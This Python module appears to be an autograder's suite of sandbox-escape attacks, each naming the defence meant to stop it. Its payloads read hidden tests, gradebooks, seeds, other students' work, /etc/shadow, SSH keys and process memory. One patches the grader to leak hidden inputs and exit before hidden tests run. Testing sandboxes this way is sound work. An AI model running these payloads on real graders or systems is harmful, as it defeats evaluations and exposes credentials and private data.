"""Read what is secret: hidden tests, expected values, other students, the gradebook, the machine.

What is found is printed, so that a test can look for it in what a student gets back.
"""

from autograder.demo.attacks.attack import Attack

HIDDEN = "this was asked by a hidden test: "
SHOW = """
import glob, os
from pathlib import Path
def show(*patterns):
    for pattern in patterns:
        for path in glob.glob(pattern, recursive=True)[:50]:
            try:
                print(path, Path(path).read_bytes()[:2000])
            except OSError as error:
                print(path, error)
"""


def _reads(name: str, held_by: str, what: str) -> Attack:
    return Attack(name, held_by, f"{SHOW}{what}")


OWN_WORLD = "its world holds nothing else"

ATTACKS = (
    _reads(
        "the hidden tests",
        OWN_WORLD,
        "show(COURSE + '/grader/**/*', COURSE + '/source/**/*', '/tmp/grading-*/**/*')",
    ),
    _reads(
        "the gradebook and the journal",
        OWN_WORLD,
        """
show(COURSE + '/*.db', COURSE + '/grading/*')
for up in range(8):
    show('../' * up + 'gradebook.db', '../' * up + 'seeds/*')
""",
    ),
    _reads(
        "the other students",
        OWN_WORLD,
        "show(COURSE + '/submitted/*/*/*', COURSE + '/autograded/*/*/*')",
    ),
    _reads("the secret seed on the disk", OWN_WORLD, "show(COURSE + '/seeds/*')"),
    Attack(
        "the secret seed in its own random numbers",
        "it is told another",
        """
import torch, numpy as np
print('seed', torch.initial_seed(), np.random.get_state()[1][0])
""",
    ),
    Attack(
        "the secret seed in the question",
        "it is told another",
        """
import autograder.sandbox.child as s, gc, inspect
frame = inspect.currentframe()
while frame:
    print({k: v for k, v in frame.f_locals.items() if k in ('request', 'seed')})
    frame = frame.f_back
""",
    ),
    Attack(
        "a hidden input, told as the reason why the next answer is missing",
        "its words are passed on no more",
        """
import builtins
import autograder.sandbox.child as s
builtins.asked, builtins.others, prepare = [], [], s._prepare
def tell(cells, above, built, name, names):
    if asked and name != asked[0][0]:
        if len(asked) < 5:  # this process has met no visible test
            return {'nothing': HIDDEN + repr(asked[-1])}
        others.append(name)
    return prepare(cells, above, built, name, names)
s._prepare = tell
"""
        + f"HIDDEN = '{HIDDEN}'",
        """
library = 'numpy'
def NAME(*args, **kwargs):
    if others:  # visible tests are over: the next process shall meet hidden ones alone
        import os
        os._exit(0)
    asked.append(('NAME', args))
""",
    ),
    _reads(
        "environments and command lines of all processes",
        "own processes only",
        """
show('/proc/[0-9]*/environ', '/proc/[0-9]*/cmdline', '/proc/[0-9]*/root/etc/passwd',
     '/proc/[0-9]*/cwd/*')
""",
    ),
    _reads(
        "the memory of its parent",
        "own processes only",
        """
for pid in {os.getppid(), 1, *range(2, 50)} - {os.getpid()}:
    show(f'/proc/{pid}/mem', f'/proc/{pid}/maps')
    os.path.exists(f'/proc/{pid}/fd')
""",
    ),
    _reads(
        "what its parent left open",
        "inherited descriptors are closed",
        """
for n in range(3, 256):
    try:
        print(n, os.readlink(f'/proc/self/fd/{n}'))
        os.lseek(n, 0, 0), print(os.read(n, 1000))
    except OSError:
        pass
""",
    ),
    _reads(
        "what submissions before it left",
        "scratch is new each time",
        "show('/scratch/**/*', '/tmp/**/*', '/dev/shm/*', '/var/tmp/*', '/run/**/*')",
    ),
    _reads(
        "who has an account here",
        OWN_WORLD,
        "show('/etc/passwd', '/etc/shadow', '/etc/hosts', '/root/**', '/home/**', '~/.ssh/*')",
    ),
    Attack(
        "what came before in the session",
        "no check runs in this process",
        """
print(get_ipython().history_manager.input_hist_raw)
import linecache
print(list(linecache.cache))
print([c for c in globals().get('In', [])])
""",
    ),
    Attack(
        "files of the grader by the names of its modules",
        "its world holds nothing else",
        """
import importlib.util, sys
for name in ('autograder.grading.referee', 'autograder.release.build',
    'autograder.exercises.assignment', 'solutions'):
    try:
        spec = importlib.util.find_spec(name)
        print(name, spec and spec.origin)
    except ImportError as error:
        print(name, error)
print(sys.path)
""",
    ),
)
